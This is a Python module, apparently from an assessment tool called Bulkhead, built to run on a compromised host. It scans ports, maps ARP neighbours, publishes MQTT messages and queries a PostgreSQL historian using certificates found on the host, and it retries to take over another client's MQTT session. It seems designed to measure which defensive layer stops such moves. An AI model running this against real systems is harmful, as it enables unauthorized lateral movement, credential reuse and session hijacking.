"""Streamed to a compromised host and run there, as its service's account, by its own Python.

Nothing of Bulkhead is imported: it needs the standard library, and psycopg to ask a historian.
One line of JSON comes on standard input: `{"do": …, "jobs": [{"id": …, …}], "patience": s}`; a
line goes out for each thing that happens to a job, `{"id": …, "said": …}`. It ends when all jobs
are over, or when standard input is closed. It opens nothing that listens, and writes no file.
"""

import json
import os
import selectors
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from typing import Any

Job = dict[str, Any]
Open = dict[socket.socket, tuple[Job, float]]
DNS = b"\x13\x37\x01\x00\x00\x01" + bytes(6) + b"\x07example\x03org\x00\x00\x01\x00\x01"
NTP = b"\x23" + bytes(47)
PAYLOADS = {53: DNS, 123: NTP}
AT_ONCE = 100
TRIES = 5
ALERT = 0.4
"""Seconds in which a broker's refusal of a certificate arrives."""
TAKEN_OVER = b"\x8e"
"""MQTT 5's reason for a session that another client of the same name has taken."""


def tell(job: Job, said: str, **more: Any) -> None:
    """One line about a job."""
    print(json.dumps({"id": job["id"], "said": said, "at": time.time(), **more}), flush=True)


# Packets ------------------------------------------------------------------------------------


def reach(jobs: list[Job], patience: float) -> None:
    """Ask every port; tell the source port first, so that what drops it can be matched."""
    waiting = list(reversed(jobs))
    watched = selectors.DefaultSelector()
    watched.register(sys.stdin, selectors.EVENT_READ)
    open_jobs: Open = {}
    while waiting or open_jobs:
        while waiting and len(open_jobs) < AT_ONCE:
            launch(waiting.pop(), watched, open_jobs, time.monotonic() + patience)
        due = min([entry[1] for entry in open_jobs.values()], default=time.monotonic())
        for key, _ in watched.select(max(0.0, due - time.monotonic())):
            if not isinstance(key.fileobj, socket.socket):
                return
            settle(key.fileobj, watched, open_jobs, answer(key.fileobj))
        for sock in [sock for sock, entry in open_jobs.items() if entry[1] <= time.monotonic()]:
            settle(sock, watched, open_jobs, "silence")


def launch(job: Job, watched: selectors.BaseSelector, open_jobs: Open, due: float) -> None:
    """Send the first packet of a job, without waiting."""
    tcp = job["protocol"] == "tcp"
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    sock.setblocking(False)
    error = ""
    try:
        sock.connect((job["address"], job["port"]))
    except BlockingIOError:
        pass
    except OSError as problem:
        error = word(problem)
    tell(job, "sent", port=sock.getsockname()[1])
    try:
        if not tcp and not error:
            sock.send(PAYLOADS.get(job["port"], b"?"))
    except OSError as problem:
        error = word(problem)
    if error:
        # The host's own filter may say so at once; its log says which layer it was.
        tell(job, error)
        sock.close()
        return
    events = selectors.EVENT_WRITE if tcp else selectors.EVENT_READ
    watched.register(sock, events)
    open_jobs[sock] = (job, due)


def answer(sock: socket.socket) -> str:
    """What came back, in a word."""
    if sock.type == socket.SOCK_STREAM:
        number = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        return "connected" if number == 0 else word(OSError(number, os.strerror(number)))
    try:
        sock.recv(512)
    except OSError as problem:
        return word(problem)
    return "answered"


def settle(
    sock: socket.socket, watched: selectors.BaseSelector, open_jobs: Open, said: str
) -> None:
    """A job is over."""
    job, _ = open_jobs.pop(sock)
    watched.unregister(sock)
    sock.close()
    tell(job, said)


def word(problem: OSError) -> str:
    """An error of the network, in a word."""
    if isinstance(problem, ConnectionRefusedError):
        return "closed"
    return "silence" if isinstance(problem, TimeoutError) else f"failed: {problem.strerror}"


# The link -----------------------------------------------------------------------------------


def neighbours(jobs: list[Job], patience: float) -> None:
    """Which addresses have a link-layer address, once each was asked for."""
    for job in jobs:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            for address in job["addresses"]:
                try:
                    sock.sendto(b"?", (address, 9))
                except OSError:
                    continue
        due = time.monotonic() + patience
        while unsettled() and time.monotonic() < due:
            time.sleep(0.05)
        tell(job, "seen", addresses=sorted(known()))


def table() -> list[list[str]]:
    """The rows of the link-layer table."""
    with open("/proc/net/arp") as file:
        return [line.split() for line in file.read().splitlines()[1:]]


def unsettled() -> bool:
    """Whether an address has been asked for and neither answered nor given up."""
    return any(row[2] == "0x0" and row[3] == "00:00:00:00:00:00" for row in table())


def known() -> set[str]:
    """The addresses that answered."""
    return {row[0] for row in table() if int(row[2], 16) & 2}


# The broker ---------------------------------------------------------------------------------


def publish(jobs: list[Job], patience: float) -> None:
    """One message each, in MQTT 5 at QoS 1, with the certificate that is lying there."""
    for job in jobs:
        say(job, *insistently(job, patience))


def insistently(job: Job, patience: float) -> tuple[str, str]:
    """As `publish_one`, again where the true holder of the name has taken its session back."""
    ended = "", ""
    for _ in range(TRIES):
        try:
            return publish_one(job, patience)
        except ssl.SSLError as problem:
            return "tls", problem.reason or str(problem)
        except EOFError as problem:
            ended = "broken", str(problem)
        except OSError as problem:
            return "broken", str(problem) or type(problem).__name__
    return ended


def say(job: Job, layer: str, reason: str) -> None:
    """How a job ended: the layer that stopped it, empty if none."""
    tell(job, "over", layer=layer, reason=reason)


def publish_one(job: Job, patience: float) -> tuple[str, str]:
    """The layer that stopped the message, empty if it was taken, and the broker's own words."""
    with secured(job, patience) as broker:
        hello = text("MQTT") + b"\x05\x02\x00\x0a\x00" + text(job["name"])
        broker.sendall(b"\x10" + length(hello) + hello)
        kind, body = packet(broker)
        if kind != 0x20 or body[1] != 0:
            return "broker-login", f"CONNACK {body[1]:#x}" if kind == 0x20 else f"packet {kind:#x}"
        message = text(job["topic"]) + b"\x00\x01\x00" + job["payload"].encode()
        broker.sendall(b"\x32" + length(message) + message)
        while True:
            kind, body = packet(broker)
            if kind == 0x40:
                code = body[2] if len(body) > 2 else 0
                broker.sendall(b"\xe0\x00")
                return ("broker-acl" if code >= 0x80 else ""), f"PUBACK {code:#x}"
            if kind == 0xE0 and body[:1] == TAKEN_OVER:
                raise EOFError("the session was taken over")
            if kind == 0xE0:
                return "broker-login", f"DISCONNECT {body[0]:#x}" if body else "DISCONNECT"


def secured(job: Job, patience: float) -> ssl.SSLSocket:
    """A connection to the broker with the certificate that is lying there.

    In TLS 1.3 a server judges after the client is done; its alert is waited for here, since data
    that it never reads would make it reset the connection, and the alert would be lost.
    """
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.load_cert_chain(job["certificate"], job["key"])
    plain = socket.create_connection((job["address"], job["port"]), timeout=patience)
    broker = context.wrap_socket(plain)
    broker.settimeout(ALERT)
    try:
        if not broker.recv(1):
            raise EOFError("closed without a word")
    except TimeoutError:
        broker.settimeout(patience)
        return broker
    raise EOFError("it spoke first")


def text(value: str) -> bytes:
    """A string as MQTT writes it."""
    return struct.pack("!H", len(value)) + value.encode()


def length(body: bytes) -> bytes:
    """A remaining length as MQTT writes it."""
    size, said = len(body), bytearray()
    while True:
        size, low = divmod(size, 128)
        said.append(low | (0x80 if size else 0))
        if not size:
            return bytes(said)


def packet(broker: ssl.SSLSocket) -> tuple[int, bytes]:
    """The next packet: its type, in the upper half of the byte, and its body."""
    kind, size, shift = exactly(broker, 1)[0], 0, 0
    while True:
        byte = exactly(broker, 1)[0]
        size |= (byte & 0x7F) << shift
        shift += 7
        if not byte & 0x80:
            return kind & 0xF0, exactly(broker, size)


def exactly(broker: ssl.SSLSocket, size: int) -> bytes:
    """So many bytes; EOFError if the broker closes before."""
    found = b""
    while len(found) < size:
        part = broker.recv(size - len(found))
        if not part:
            raise EOFError("closed without a word")
        found += part
    return found


# The historian ------------------------------------------------------------------------------


def query(jobs: list[Job], patience: float) -> None:
    """How many rows each statement sees, with the certificate that is lying there."""
    import psycopg

    for job in jobs:
        try:
            with (
                psycopg.connect(
                    host=job["address"],
                    port=job["port"],
                    dbname=job["database"],
                    user=job["user"],
                    sslmode="require",
                    sslcert=job["certificate"],
                    sslkey=job["key"],
                    connect_timeout=max(2, int(patience)),
                ) as connection,
                connection.cursor() as cursor,
            ):
                cursor.execute(job["statement"], (job["tenant"],))
                tell(job, "over", layer="", rows=(cursor.fetchone() or [0])[0])
        except psycopg.errors.InsufficientPrivilege as problem:
            say(job, "historian-grant", str(problem).strip())
        except psycopg.OperationalError as problem:
            said = str(problem).strip()
            login = "authentication" in said or "pg_hba.conf" in said or "not permitted" in said
            layer = "historian-login" if login else "tls" if "SSL" in said else "broken"
            say(job, layer, said)
        except psycopg.Error as problem:
            say(job, "broken", str(problem).strip())


ERRANDS: dict[str, Callable[[list[Job], float], None]] = {
    "reach": reach,
    "neighbours": neighbours,
    "publish": publish,
    "query": query,
}


def main() -> None:
    """The errand that standard input orders."""
    asked = json.loads(sys.stdin.readline())
    ERRANDS[asked["do"]](asked["jobs"], asked["patience"])
